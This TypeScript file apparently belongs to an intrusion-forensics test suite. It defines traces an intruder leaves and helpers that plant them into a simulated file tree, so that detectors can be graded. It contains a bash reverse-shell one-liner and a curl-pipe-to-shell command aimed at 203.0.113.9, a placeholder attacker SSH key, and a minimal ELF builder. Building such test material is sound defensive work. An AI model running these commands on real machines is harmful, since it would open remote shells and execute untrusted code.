/** One thing an intruder left: how it is put there, and what a finding of medium or above has to name. */

import type { Put, Tree, TreePath } from './tree.ts';

export type Family = 'accounts' | 'trust' | 'services' | 'start-up' | 'environment' | 'files' | 'names' | 'web' | 'evidence' | 'packages';

export interface Sign {
	readonly id: string;
	readonly family: Family;
	/** What it is, in the words of the field. */
	readonly what: string;
	plant(tree: Tree): void;
	/** Paths, accounts (`account ada`) or hosts (`host x`): one of them has to be the subject of a finding. */
	readonly names: readonly TreePath[];
	/** What else of the sign may be named without being a false alarm. Everything below a path is meant too. */
	readonly also?: readonly TreePath[];
	/** Told by the disk alone, which not every machine lets root open. */
	readonly onDisk?: true;
}

export const attackerKey = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDk0wnedByMallory2025aXk7Qm9vdGxlZ0tleU5vdFJlYWw0Tm9ib2R5c0tleQ== root@kali';

/** The smallest thing that is an ELF program by its header, and of no package by its bytes. */
export function elf(words: string, type: 'program' | 'library' | 'module' = 'program'): Buffer {
	const header = Buffer.alloc(64);
	header.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]);
	header.writeUInt16LE({ program: 2, library: 3, module: 1 }[type], 16);
	header.writeUInt16LE(62, 18);
	header.writeUInt32LE(1, 20);
	header.writeUInt16LE(64, 52);
	return Buffer.concat([header, Buffer.from(`\0${words}\0`), Buffer.alloc(900, 0x90)]);
}

export const reverse = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1';
export const fetched = 'curl -fsSL http://203.0.113.9/k | sh';
export const run = { mode: 0o755 } as const;

/** A sign that is one file. */
export function file(id: string, family: Family, what: string, path: string, content: string | Buffer, put: Put & { readonly also?: readonly string[] } = {}): Sign {
	const { also, ...how } = put;
	return { id, family, what, names: [path], plant: tree => tree.write(path, content, how), ...(also === undefined ? {} : { also }) };
}

/** A sign that is a line more in a file. */
export function line(id: string, family: Family, what: string, path: string, text: string): Sign {
	return { id, family, what, names: [path], plant: tree => tree.append(path, text) };
}
